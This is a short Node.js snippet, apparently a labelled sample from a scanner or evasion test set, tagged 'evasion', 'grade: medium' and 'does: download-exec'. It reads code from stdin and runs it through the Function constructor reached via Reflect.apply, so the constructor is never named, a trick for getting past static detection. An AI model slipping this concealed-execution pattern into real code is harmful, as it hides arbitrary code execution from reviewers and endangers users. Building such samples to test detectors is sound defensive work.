// evasion: code read from stdin compiled by Reflect.apply(Function, null, [code]), the constructor never called by name
// grade: medium; does: download-exec
'use strict';
const fs = require('fs');

const code = fs.readFileSync(0, 'utf8');
const task = Reflect.apply(Function, null, ['args', code]);
task(process.argv.slice(2));
